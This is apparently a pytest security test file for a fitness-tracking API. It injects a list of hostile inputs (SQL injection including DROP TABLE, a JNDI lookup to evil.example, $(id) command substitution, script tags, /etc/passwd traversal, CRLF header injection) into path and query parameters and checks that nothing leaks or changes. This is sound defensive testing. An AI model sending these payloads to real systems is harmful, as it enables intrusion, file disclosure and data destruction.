"""Metacharacters of other languages in every parameter: they are text, or no such thing."""

from __future__ import annotations

import re
from dataclasses import replace
from urllib.parse import quote

import pytest

from fittrack.reference.document import operations
from tests.access.rows import ADMIN
from tests.access.table import ROWS
from tests.attack.bodies import who_may

HOSTILE = (
    "' OR '1'='1",
    "x'; DROP TABLE accounts; --",
    '" OR 1=1 --',
    "1 UNION SELECT password_hash FROM accounts",
    "1) OR (SELECT 1 FROM dual",
    "%",
    "_%\\",
    ":account_id",
    "?",
    "{{7*7}}",
    "${jndi:ldap://evil.example/a}",
    "%s%n%(password_hash)s",
    "$(id)",
    "`id`",
    "<script>alert(1)</script>",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "....//....//etc/passwd",
    "/etc/passwd",
    "file:///etc/passwd",
    "a\r\nSet-Cookie: stolen=1",
    "a\0b",
    "\u202e\u0000\ufeff",
    "ﬃ" * 50,
    "A" * 3000,
)
LEAKS = re.compile(rb"sqlite|ORA-\d|Traceback|syntax error|root:x:0|near \"|\.py\b", re.IGNORECASE)
ASKING = [row for row in ROWS if row.is_read]
PLACED = [row for row in ROWS if row.path]


def assert_tells_nothing(answer, text):
    assert answer.status_code < 500, text
    assert not LEAKS.search(answer.data), (text, answer.data[:500])
    assert "Set-Cookie" not in answer.headers, text


@pytest.mark.parametrize("row", PLACED, ids=lambda row: row.operation)
def test_text_in_a_path_is_no_such_thing(matrix, row):
    matrix.lay_out()
    before = matrix.digest()
    for text in HOSTILE:
        odd = replace(row, path=dict.fromkeys(row.path, quote(text, safe="")))
        answer = matrix.ask(odd, who_may(row))
        assert_tells_nothing(answer, text)
        assert answer.status_code in {404, 405, 414}, (text, answer.status_code)
    assert matrix.digest() == before


@pytest.mark.parametrize("row", ASKING, ids=lambda row: row.operation)
def test_text_in_a_query_is_text(matrix, document, row):
    matrix.lay_out()
    found = {f"{m.upper()} {path}": operation for path, m, operation in operations(document)}
    parameters = [p for p in found[row.operation]["parameters"] if p["in"] == "query"]
    for parameter in parameters:
        for text in HOSTILE:
            answer = matrix.ask(row, who_may(row), query_string={parameter["name"]: text})
            assert_tells_nothing(answer, text)
            # Words to search by may be any; nobody is called so.
            is_empty = answer.status_code == 200 and answer.json["items"] == []
            assert is_empty or answer.status_code in {400, 401, 403, 404, 422}, (
                parameter["name"],
                text,
            )


@pytest.mark.parametrize("row", ASKING, ids=lambda row: row.operation)
def test_a_parameter_stands_once_and_only_where_it_is_known(matrix, document, row):
    """Otherwise two readers of one query could each see another value."""
    matrix.lay_out()
    who = who_may(row)
    given = matrix.world.value(dict(row.query))
    found = {f"{m.upper()} {path}": operation for path, m, operation in operations(document)}
    for parameter in found[row.operation]["parameters"]:
        name = parameter["name"]
        if parameter["in"] == "query" and "array" not in parameter["schema"]["type"]:
            pair = [(name, given.get(name, "1")), (name, "2")]
            answer = matrix.ask(row, who, query_string=[*given.items(), *pair])
            assert answer.status_code == 422, name
            assert {"pointer": f"/{name}", "message": "Given more than once."} in answer.json[
                "errors"
            ]


def test_a_path_parameter_is_not_taken_from_elsewhere(matrix):
    """Neither a query nor a header says whose things are asked for."""
    matrix.lay_out()
    owner_id = matrix.world.things["owner"]
    headers = matrix.world.headers[ADMIN] | {"X-User-ID": owner_id, "X-Account-ID": owner_id}
    answer = matrix.client.get("/api/v1/users/me", headers=headers)
    assert answer.json["account_id"] != owner_id
    refused = matrix.client.get(f"/api/v1/activities?account_id={owner_id}", headers=headers)
    assert refused.status_code == 422


@pytest.mark.parametrize("row", [row for row in ROWS if row.path], ids=lambda row: row.operation)
def test_another_spelling_of_an_id_is_no_such_thing(matrix, row):
    """Two spellings of one thing would be two names in caches and logs."""
    matrix.lay_out()
    (name, given), *others = row.path.items()
    thing = matrix.world.value(given)
    for spelling in (thing.upper() + " ", f"{{{thing}}}", f"urn:uuid:{thing}", f"{thing};a=1"):
        odd = replace(row, path={**dict(others), name: quote(spelling)})
        assert matrix.ask(odd, who_may(row)).status_code == 404, spelling
